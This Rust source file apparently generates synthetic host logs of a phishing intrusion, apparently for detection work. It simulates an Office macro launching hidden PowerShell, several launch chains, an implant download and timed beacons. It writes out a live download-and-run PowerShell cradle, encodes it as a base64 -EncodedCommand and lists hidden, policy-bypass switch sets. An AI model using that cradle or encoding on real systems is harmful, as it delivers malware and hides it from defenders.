//! The way in: the document from the mail, its macro, the implant and its calls home.

use super::Intrusion;
use crate::synth::estate::{MINUTE, SECOND, pick, word};
use crate::synth::host::{Account, HostLog, Label, Process, What};
use crate::synth::life::{Boot, Life};
use anyhow::{Context, Result};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use rand::RngExt;
use std::sync::Arc;

impl Intrusion {
    pub(super) fn mail_program(&self, log: &mut HostLog<'_>, life: &Life, session: usize) -> Result<Arc<Process>> {
        let session = &life.sessions[session];
        if let Some(outlook) = session.processes.get("outlook").filter(|living| living.from < self.begin) {
            return Ok(outlook.process.clone());
        }
        let explorer = session.processes.get("explorer").context("launches.tsv: nobody starts explorer")?.process.clone();
        let command = r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#;
        log.start(self.begin - 30 * MINUTE, &explorer, &What::Known("outlook"), command, &session.account, "Medium")
    }

    /// Outlook saves the attachment and Word or Excel opens it.
    pub(super) fn document(&self, log: &mut HostLog<'_>, outlook: &Arc<Process>, account: &Arc<Account>, until: i64) -> Result<Arc<Process>> {
        log.label = Label::Ignore;
        let sheet = self.way % 2 == 1;
        let (program, extension, exe) = if sheet { ("excel", "xlsm", "EXCEL.EXE") } else { ("winword", "docm", "WINWORD.EXE") };
        let folder = log.fill(r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{id8}", account, "", self.begin);
        let file = format!(r"{folder}\{}.{extension}", self.document);
        log.write_file(self.begin - 9 * SECOND, outlook, &file)?;
        let switch = if sheet { String::new() } else { "/n ".to_owned() };
        let command = format!("\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\{exe}\" {switch}\"{file}\"{}", if sheet { "" } else { " /o \"\"" });
        let office = log.start(self.begin - 8 * SECOND, outlook, &What::Known(program), &command, account, "Medium")?;
        log.load(self.begin - 4 * SECOND, &office, r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL", true)?;
        log.load(self.begin - 4 * SECOND, &office, r"C:\Windows\System32\wbem\wbemprox.dll", true)?;
        log.end((self.begin + 17 * MINUTE).min(until), &office)?;
        Ok(office)
    }

    /// From the macro to encoded PowerShell, in one of several ways.
    pub(super) fn macro_runs(&self, log: &mut HostLog<'_>, boot: &Boot, office: &Arc<Process>, account: &Arc<Account>) -> Result<Arc<Process>> {
        let script = format!(
            "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');$p=Join-Path $env:{} '{}';$c.DownloadFile('https://{}/{}',$p);Start-Process $p",
            if self.folder.contains("ProgramData") { "ProgramData" } else { "TEMP" },
            self.implant,
            self.server,
            self.word.to_lowercase()
        );
        let encoded = base64(&script);
        let switches = word(
            &mut log.rng,
            &["-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -Enc", "-noprofile -windowstyle hidden -EncodedCommand", "-ep bypass -w 1 -e"],
        );
        let command = format!("powershell.exe {switches} {encoded}");
        let (parent, time) = match self.way {
            0 => (office.clone(), self.begin),
            1 => (log.start(self.begin, office, &What::Known("cmd"), &format!("cmd.exe /c {command}"), account, "Medium")?, self.begin + SECOND / 6),
            2 => {
                // The provider host that the macro's WMI call runs in is Windows's own.
                log.label = Label::Ignore;
                let network = log.account("network");
                let dcom = boot.processes["svchost:DcomLaunch"].process.clone();
                let provider = log.start(
                    self.begin - 40 * SECOND,
                    &dcom,
                    &What::Known("wmiprvse"),
                    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                    &network,
                    "System",
                )?;
                log.label = Label::Attack;
                (provider, self.begin)
            }
            3 => {
                let file = log.fill(r"{home}\AppData\Local\Temp\{id6}.dll", account, "", self.begin);
                log.write_file(self.begin - SECOND, office, &file)?;
                let (program, line) = *pick(&mut log.rng, &[("rundll32", "rundll32.exe {file},Start"), ("regsvr32", "regsvr32.exe /s {file}")]);
                let host = log.start(self.begin, office, &What::Known(program), &line.replace("{file}", &file), account, "Medium")?;
                log.load(self.begin + SECOND / 5, &host, &file, false)?;
                (host, self.begin + SECOND)
            }
            _ => {
                let file = log.fill(r"{home}\AppData\Local\Temp\{id6}.cmd", account, "", self.begin);
                log.write_file(self.begin - SECOND, office, &file)?;
                (
                    log.start(self.begin, office, &What::Known("cmd"), &format!("C:\\Windows\\system32\\cmd.exe /c \"\"{file}\" \""), account, "Medium")?,
                    self.begin + SECOND / 3,
                )
            }
        };
        let shell = log.start(time, &parent, &What::Known("powershell"), &command, account, "Medium")?;
        log.engine(&shell, time + 40 * SECOND, Some(&script))?;
        Ok(shell)
    }

    pub(super) fn implant_arrives(&self, log: &mut HostLog<'_>, shell: &Arc<Process>, account: &Arc<Account>) -> Result<(Arc<Process>, String)> {
        log.ask(self.begin + 3 * SECOND, shell, &self.server)?;
        log.connect(self.begin + 3 * SECOND, shell, &self.server, 443)?;
        let folder = log.fill(&self.folder.replace("{word}", &self.word), account, "", self.begin);
        let extension = if self.library { "dll" } else { "exe" };
        let path = format!(r"{folder}\{}.{extension}", self.implant);
        log.write_file(self.begin + 9 * SECOND, shell, &path)?;
        let time = self.begin + 11 * SECOND;
        let command = self.command(&path);
        let implant = if self.library {
            let host = log.start(time, shell, &What::Known("rundll32"), &command, account, "Medium")?;
            log.load(time + SECOND / 4, &host, &path, false)?;
            host
        } else {
            log.start(time, shell, &What::Foreign { path: &path, description: "-", company: "-" }, &command, account, "Medium")?
        };
        log.end(self.begin + 40 * SECOND, shell)?;
        Ok((implant, path))
    }

    pub(super) fn command(&self, path: &str) -> String {
        if self.library { format!("rundll32.exe {path},#1") } else { format!("\"{path}\"") }
    }

    /// Calls home at odd intervals.
    pub(super) fn beacons(&self, log: &mut HostLog<'_>, implant: &Process, from: i64, until: i64, most: usize) -> Result<()> {
        let mut time = from;
        for turn in 0..most {
            if time >= until {
                break;
            }
            if turn % 4 == 0 {
                log.ask(time - SECOND / 10, implant, &self.server)?;
            }
            log.connect(time, implant, &self.server, 443)?;
            time += log.rng.random_range(4..22) * MINUTE;
        }
        Ok(())
    }
}

/// Base64 of the text in UTF-16, as `-EncodedCommand` wants it.
fn base64(text: &str) -> String {
    BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_commands_are_base64_of_utf16() {
        assert_eq!(base64("dir"), "ZABpAHIA");
        assert_eq!(base64("ls"), "bABzAA==");
        assert_eq!(base64("a"), "YQA=");
    }
}
